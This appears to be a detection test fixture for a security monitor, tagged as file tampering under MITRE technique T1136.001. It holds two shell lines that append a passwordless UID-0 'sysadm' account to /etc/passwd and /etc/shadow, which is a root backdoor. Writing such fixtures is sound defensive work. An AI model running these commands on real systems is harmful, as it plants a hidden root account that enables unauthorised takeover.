# category: file-tampering
# technique: T1136.001
# art: yes
# expect: auth-file-modified
# desc: a second root account is appended to /etc/passwd with a shell redirection (no tool to see in argv)
echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd
echo 'sysadm::19000:0:99999:7:::' >> /etc/shadow
